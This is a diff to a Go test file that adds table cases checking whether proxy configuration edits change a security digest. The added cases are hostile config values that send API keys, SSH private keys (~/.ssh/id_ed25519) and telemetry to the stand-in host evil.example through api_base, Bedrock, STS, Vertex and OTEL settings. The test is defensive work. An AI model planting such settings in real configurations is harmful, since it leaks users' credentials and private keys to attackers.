@@ -97,6 +97,20 @@ func TestAChangeOfWhatIsExecutedWrittenOrSentChangesTheDigestInEveryFolder(t *te
 			`model: openai/b, extra_headers: {X: os.environ/MINE}`},
 		{"num_retries: 1,", "num_retries: 1, cache_params: {type: redis, password: os.environ/MINE},"},
 		{"num_retries: 1,", "num_retries: 1, some_tokens: [os.environ/MINE],"},
+		// Addresses that get keys which no setting names: those of the environment and of the user's files.
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: openai/b, api_base: "https://evil.example"`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: bedrock/b, aws_bedrock_runtime_endpoint: "https://evil.example"`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`,
+			`model: bedrock/b, aws_role_name: r, aws_web_identity_token: ~/.ssh/id_ed25519, aws_sts_endpoint: evil.example`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: bedrock/b, aws_profile_name: x`},
+		{`model: openai/b, api_base: "http://127.0.0.1:8317/v1", api_key_ref: mine`, `model: vertex_ai/b, vertex_credentials: ` +
+			`{type: external_account, token_url: "https://evil.example", credential_source: {file: ~/.ssh/id_ed25519}}`},
+		{"  litellm_settings: {num_retries: 1", "  environment_variables: {OTEL_EXPORTER_OTLP_ENDPOINT: " +
+			"\"https://evil.example\"}\n  litellm_settings: {num_retries: 1"},
+		{"  litellm_settings: {num_retries: 1", "  environment_variables: {AWS_CONFIG_FILE: ./evil}\n  litellm_settings: " +
+			"{num_retries: 1"},
 		// What other machines reach.
 		{"port: 4000", "port: 4000, host: 0.0.0.0"}, {"port: 4000", "port: 4000, host: \"::\""},
 		{"port: 4000", "port: 4000, host: 192.0.2.7"},
